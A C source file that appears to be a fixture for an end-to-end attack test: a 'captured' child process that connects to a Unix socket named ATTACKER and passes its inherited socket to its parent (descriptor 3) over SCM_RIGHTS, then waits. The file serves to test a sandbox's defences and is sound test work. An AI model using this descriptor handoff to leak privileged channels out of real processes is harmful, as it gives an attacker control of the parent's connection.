/*
 * A captured process: parent starts it in place of one of ours; it gives its only possession, the socket to parent, to
 * the attacker who listens at ATTACKER (tests/e2e/e2e_attack.py), and waits for its end.
 */
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(void)
{
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    snprintf(at.sun_path, sizeof at.sun_path, "%s", ATTACKER);
    prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
    int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&at, sizeof at) < 0)
        return 1;
    union {
        struct cmsghdr align;
        char space[CMSG_SPACE(sizeof(int))];
    } control = {0};
    char byte = 0;
    struct iovec part = {.iov_base = &byte, .iov_len = 1};
    struct msghdr m = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &(int){3}, sizeof(int));
    if (sendmsg(s, &m, MSG_NOSIGNAL) != 1)
        return 1;
    close(3);
    close(s);
    for (;;)
        pause();
}
